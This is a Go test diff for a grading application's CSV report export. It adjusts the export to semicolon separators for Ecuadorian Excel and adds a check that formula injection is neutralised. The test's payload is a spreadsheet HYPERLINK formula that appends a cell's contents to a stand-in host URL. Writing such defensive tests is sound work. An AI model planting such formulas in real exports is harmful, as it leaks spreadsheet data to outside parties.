@@ -157,21 +157,35 @@ func TestReportsAndGradesExport(t *testing.T) {
 	if len(inactive.Report.Inactive) != 1 || inactive.Report.Inactive[0].Email != "con.grupo@utpl.edu.ec" || inactive.Report.Inactive[0].LastActivity != nil {
 		t.Fatalf("inactive = %+v", inactive.Report.Inactive)
 	}
+	// A comment a spreadsheet would run as a formula.
+	formula := `=HYPERLINK("http://ejemplo.invalid/?x="&A2;"Ver")`
+	e.mustAttempt(tutor, "POST", "/api/attempts/"+b.ID+"/grade", map[string]any{"levels": levelsAll(b, 2), "comments": formula}, 200)
 	res := e.do(tutor, "GET", "/api/admin/reports/export", nil)
 	body := res.Body.Bytes()
 	if res.Code != 200 || !bytes.HasPrefix(body, []byte("\ufeff")) || !strings.Contains(res.Header().Get("Content-Type"), "text/csv") {
 		t.Fatalf("export = %d %v", res.Code, res.Header())
 	}
-	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\ufeff")))).ReadAll()
+	// Excel in es-EC separates fields with ";" (its decimal separator is
+	// the comma): a comma-separated file would open in one column.
+	text := string(bytes.TrimPrefix(body, []byte("\ufeff")))
+	cr := csv.NewReader(strings.NewReader(text))
+	cr.Comma = ';'
+	rows, err := cr.ReadAll()
 	if err != nil || len(rows) != 3 {
 		t.Fatalf("CSV rows = %d, %v", len(rows), err)
+	}
+	if first, _, _ := strings.Cut(text, "\n"); !strings.HasPrefix(first, "Estudiante;Correo;Fecha;") || strings.Count(first, ";") != len(rows[0])-1 {
+		t.Fatalf("header line = %q", first)
 	}
 	header := strings.Join(rows[0], "|")
 	if !strings.Contains(header, "Nota tutor") || !strings.Contains(header, "C1 Problema jurídico y hechos") || !strings.Contains(header, "Área") {
 		t.Fatalf("header = %s", header)
 	}
-	joined := strings.Join(rows[1], "|") + strings.Join(rows[2], "|")
-	if !strings.Contains(joined, "Análisis sólido; mejore la conclusión.") || !strings.Contains(joined, "10,00") || !strings.Contains(joined, "Simulacro") {
+	joined := strings.Join(rows[1], "|") + "|" + strings.Join(rows[2], "|")
+	if !strings.Contains(joined, "|Análisis sólido; mejore la conclusión.|") || !strings.Contains(joined, "|10,00|") || !strings.Contains(joined, "Simulacro") {
 		t.Fatalf("rows = %v", rows[1:])
+	}
+	if !strings.Contains(joined, "|'"+formula+"|") || strings.Contains(joined, "|"+formula) {
+		t.Fatalf("formula not neutralised: %v", rows[1:])
 	}
 }
